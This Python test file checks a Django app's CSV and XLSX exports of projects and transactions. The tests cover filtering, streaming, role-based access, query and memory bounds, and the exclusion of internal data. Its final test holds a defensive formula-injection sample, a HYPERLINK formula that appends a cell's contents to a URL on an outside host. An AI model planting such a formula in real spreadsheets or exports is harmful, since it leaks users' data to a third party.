"""Exports of projects and transactions: filtered like the list, streamed, nothing internal."""

import csv
import io
import tracemalloc
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from taawun.core import tabular
from taawun.core.forms import cleaned
from taawun.partners.tests.factories import ContactFactory, PartnerFactory
from taawun.projects import exports, services
from taawun.projects.forms import TransactionForm
from taawun.projects.models import Project, Transaction
from taawun.projects.tests.factories import LocationFactory, ProjectFactory
from taawun.territory.tests.factories import DomainFactory, LocalityFactory

pytestmark = pytest.mark.django_db
D = Decimal


def url(name, **query):
    with translation.override("fr"):
        path = reverse(name, kwargs={"fmt": query.pop("fmt", "csv")})
    if query:
        path += "?" + "&".join(f"{key}={value}" for key, value in query.items())
    return path


def read_csv(response):
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def read_xlsx(response):
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    rows = list(workbook.worksheets[0].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def record(project, type, provider, amount, day=date(2025, 3, 1), **extra):
    form = TransactionForm(
        data={
            "type": type,
            "date": day.isoformat(),
            "provider": provider.pk,
            "amount": str(amount),
            "currency": "MAD",
            **extra,
        },
        project=project,
    )
    assert form.is_valid(), form.errors
    return services.transaction_save(project=project, **cleaned(form))[0]


@pytest.fixture
def bus(commune):
    """A project half funded by the commune and a region, with a place and a domain."""
    owner = PartnerFactory(name_fr="Commune porteuse", notes="Note interne confidentielle")
    ContactFactory(partner=owner, name="Jeanne Secret", email="jeanne.secret@example.org")
    project = ProjectFactory(
        code="PRJ-BUS",
        title_fr="Transport scolaire",
        title_ar="النقل المدرسي",
        owner=owner,
        budget=D("1000000"),
        status="2",
        progress=40,
    )
    project.domains.add(DomainFactory(code="school-transport"))
    LocationFactory(project=project, locality=LocalityFactory(slug="tamzargout"))
    region = PartnerFactory(name_fr="Région Souss-Massa", acronym="RSM")
    record(project, "11", commune, 200_000)
    record(project, "11", region, 300_000)
    record(
        project,
        "3",
        region,
        350_000,
        description_fr="Première tranche",
        override_reason="Raison interne de dépassement",
    )
    return project


def test_the_projects_csv_has_the_money_summary_and_no_internal_data(client_for, bus):
    ProjectFactory(code="PRJ-OLD", status="4")
    rows = read_csv(client_for("council").get(url("projects:projects-export")))
    assert [row["code"] for row in rows] == ["PRJ-BUS", "PRJ-OLD"]
    row = rows[0]
    assert row["title_ar"] == "النقل المدرسي" and row["title_fr"] == "Transport scolaire"
    assert row["owner"] == "Commune porteuse"
    assert row["domains"] == "school-transport" and row["localities"] == "tamzargout"
    assert D(row["budget"]) == D("1000000")
    assert D(row["committed_mad"]) == D("500000") and D(row["disbursed_mad"]) == D("350000")
    assert D(row["secured_mad"]) == D("550000")  # the region paid beyond its commitment
    assert D(row["funding_gap_mad"]) == D("450000") and D(row["percent_funded"]) == D("55.0")
    assert D(row["leverage"]) == D("1.75")  # 350 000 from the region for 200 000 of the commune
    assert row["planned_start"] == "2025-01-01" and row["progress"] == "40"
    text = str(rows)
    assert "Jeanne" not in text and "jeanne.secret" not in text and "confidentielle" not in text


def test_the_projects_export_follows_the_list_filters(client_for, bus):
    ProjectFactory(code="PRJ-OLD", status="4")
    client = client_for("officer")
    assert [r["code"] for r in read_csv(client.get(url("projects:projects-export", status=4)))] == [
        "PRJ-OLD"
    ]
    domain = bus.domains.get()
    rows = read_csv(client.get(url("projects:projects-export", domain=domain.pk)))
    assert [r["code"] for r in rows] == ["PRJ-BUS"]
    rows = read_csv(client.get(url("projects:projects-export", q="transport")))
    assert [r["code"] for r in rows] == ["PRJ-BUS"]


def test_a_project_in_two_filtered_places_is_exported_once(client_for, bus):
    locality = bus.locations.get().locality
    LocationFactory(project=bus)
    rows = read_csv(
        client_for("officer").get(url("projects:projects-export", locality=locality.pk))
    )
    assert [r["code"] for r in rows] == ["PRJ-BUS"]
    assert len(rows[0]["localities"].split(";")) == 2


def test_the_transactions_csv_has_rate_and_value_but_no_override_reason(client_for, bus):
    rows = read_csv(client_for("finance").get(url("projects:transactions-export")))
    assert [(r["type"], r["provider"]) for r in rows] == [
        ("11", "Commune d'Aourir"),
        ("11", "Région Souss-Massa"),
        ("3", "Région Souss-Massa"),
    ]
    tranche = rows[2]
    assert tranche["project"] == "PRJ-BUS" and tranche["date"] == "2025-03-01"
    assert D(tranche["amount"]) == D("350000") and tranche["currency"] == "MAD"
    assert D(tranche["rate"]) == 1 and D(tranche["mad_value"]) == D("350000")
    assert tranche["description_fr"] == "Première tranche"
    assert "override_reason" not in tranche and "Raison interne" not in str(rows)


def test_the_transactions_export_keeps_to_the_filtered_projects(client_for, bus, commune):
    other = ProjectFactory(code="PRJ-OLD", status="4")
    record(other, "11", commune, 1000)
    rows = read_csv(client_for("officer").get(url("projects:transactions-export", status=4)))
    assert [r["project"] for r in rows] == ["PRJ-OLD"]


def test_xlsx_exports_open_in_a_spreadsheet(client_for, bus):
    client = client_for("council")
    response = client.get(url("projects:projects-export", fmt="xlsx"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="projects.xlsx"' in response["Content-Disposition"]
    projects = read_xlsx(response)
    assert projects[0]["code"] == "PRJ-BUS" and projects[0]["budget"] == 1000000
    assert all("Jeanne" not in str(value) for row in projects for value in row.values())
    transactions = read_xlsx(client.get(url("projects:transactions-export", fmt="xlsx")))
    assert [row["mad_value"] for row in transactions] == [200000, 300000, 350000]


@pytest.mark.parametrize(
    ("role", "status"),
    [
        (None, 302),
        ("admin", 200),
        ("officer", 200),
        ("finance", 200),
        ("council", 200),
        ("partner", 403),
        ("association", 403),
    ],
)
def test_only_commune_people_may_export(client_for, role, status):
    client = client_for(role)
    for name in ("projects:projects-export", "projects:transactions-export"):
        for fmt in ("csv", "xlsx"):
            assert client.get(url(name, fmt=fmt)).status_code == status


def test_the_projects_export_costs_the_same_queries_for_few_and_many_projects(
    client_for, commune, django_assert_max_num_queries
):
    client = client_for("council")

    def export():
        # session, user, then projects with their owners, domains and places: one query each
        with django_assert_max_num_queries(5) as queries:
            rows = read_csv(client.get(url("projects:projects-export")))
        return len(rows), len(queries.captured_queries)

    for _ in range(2):
        LocationFactory(project=ProjectFactory()).project.domains.add(DomainFactory())
    few = export()
    for _ in range(20):
        LocationFactory(project=ProjectFactory()).project.domains.add(DomainFactory())
    many = export()
    assert few[0] == 2 and many[0] == 22
    assert few[1] == many[1]


def make_transactions(project, provider, count):
    Transaction.objects.bulk_create(
        [
            Transaction(
                project=project,
                type="4",
                date=date(2025, 3, 1),
                provider=provider,
                amount=D("1234.56"),
                currency="MAD",
                rate=D("1"),
                mad_value=D("1234.56"),
                description_fr=f"Facture n° {n:06}",
            )
            for n in range(count)
        ],
        batch_size=2000,
    )


def test_the_transactions_csv_streams_from_one_query_without_loading_it(client_for, commune):
    project = ProjectFactory()
    make_transactions(project, commune, 2500)
    client = client_for("council")
    with CaptureQueriesContext(connection) as before_reading:
        response = client.get(url("projects:transactions-export"))
    assert isinstance(response, StreamingHttpResponse)
    # The view only builds the query: nothing is read until the file is sent.
    assert not [q for q in before_reading.captured_queries if '"projects_transaction"' in q["sql"]]
    with CaptureQueriesContext(connection) as reading:
        chunks = list(response.streaming_content)
    assert b"".join(chunks).count(b"\r\n") == 2500 + 1  # header, rows
    assert len(chunks) == 6  # sent a few hundred lines at a time (header, then 5 × 500)
    assert len(reading.captured_queries) == 1  # read in chunks from one cursor


def test_exporting_ten_times_more_transactions_does_not_take_ten_times_the_memory(
    client_for, commune, monkeypatch
):
    # Smaller chunks than in production, so that a quick test still spans twenty of them.
    monkeypatch.setattr(exports, "CHUNK", 100)
    monkeypatch.setattr(tabular, "CSV_LINES_PER_CHUNK", 50)
    project = ProjectFactory()
    client = client_for("council")
    client.get(url("projects:transactions-export"))  # imports and caches out of the measure

    def peak_while_exporting():
        tracemalloc.start()
        try:
            response = client.get(url("projects:transactions-export"))
            lines = sum(chunk.count(b"\r\n") for chunk in response.streaming_content)
            return lines, tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    make_transactions(project, commune, 200)
    lines, small = peak_while_exporting()
    assert lines == 201
    make_transactions(project, commune, 1_800)
    lines, large = peak_while_exporting()
    assert lines == 2_001
    # Held in memory, 2 000 rows would take about ten times what 200 take; read in chunks,
    # at most two chunks are alive at once whatever the length of the file.
    assert large < small * 2, (small, large)


def test_typed_in_text_is_never_exported_as_a_spreadsheet_formula(client_for, bus, commune):
    trap = '=HYPERLINK("http://example.org/?"&A1,"Cliquer")'
    record(bus, "4", commune, 100, description_fr=trap)
    Project.objects.filter(pk=bus.pk).update(title_fr="+33 projet")
    client = client_for("finance")
    rows = read_csv(client.get(url("projects:transactions-export")))
    assert rows[-1]["description_fr"] == "'" + trap
    # XLSX: an inline string, which no spreadsheet evaluates, written as typed (no apostrophe).
    response = client.get(url("projects:transactions-export", fmt="xlsx"))
    content = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and 't="inlineStr"' in sheet
    rows = list(load_workbook(io.BytesIO(content), read_only=True).worksheets[0].values)
    assert rows[-1][rows[0].index("description_fr")] == trap
    assert read_csv(client.get(url("projects:projects-export")))[0]["title_fr"] == "'+33 projet"
